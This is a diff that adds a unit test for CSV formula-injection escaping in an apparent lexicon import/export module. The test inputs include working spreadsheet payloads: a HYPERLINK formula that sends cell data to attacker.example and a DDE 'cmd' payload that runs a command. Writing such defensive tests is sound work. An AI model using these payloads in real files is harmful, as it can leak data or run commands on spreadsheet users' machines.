@@ -36,6 +36,22 @@ describe('our JSON and CSV', () => {
     const back = parseImport('csv', entriesToCsv([e]));
     expect(back.entries[0]).toEqual(e);
   });
+  it('writes formula-like cells so a spreadsheet shows them as text, and reads them back exactly', () => {
+    const e = entry({
+      id: 'en.formula', lang: 'en', terms: ['vermin'], category: 'DH.ANIMAL', severity: 3,
+      meaning: '=HYPERLINK("http://attacker.example/?"&A1,"open")', whyHarmful: "+cmd|' /C calc'!A0",
+      source: { type: 'curator', ref: '@SUM(1+1)', citation: "'-already quoted" },
+    });
+    const csv = entriesToCsv([e]);
+    const cells = csv.split('\n')[1]!;
+    expect(cells).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""open"")"`);
+    expect(cells).toContain(`'+cmd|' /C calc'!A0`);
+    expect(cells).toContain(`'@SUM(1+1)`);
+    expect(cells).toContain(`''-already quoted`);
+    // No cell of the row starts with a formula character.
+    expect(cells.split(',').filter((c) => /^"?[=+\-@]/.test(c))).toEqual([]);
+    expect(parseImport('csv', csv).entries[0]).toEqual(e);
+  });
   it('reports every bad CSV row with its line number and imports nothing', () => {
     const good = entriesToCsv([entry({ id: 'en.a', lang: 'en', terms: ['vermin'], category: 'DH.ANIMAL', severity: 3 })]);
     const [header, row] = good.trim().split('\n');
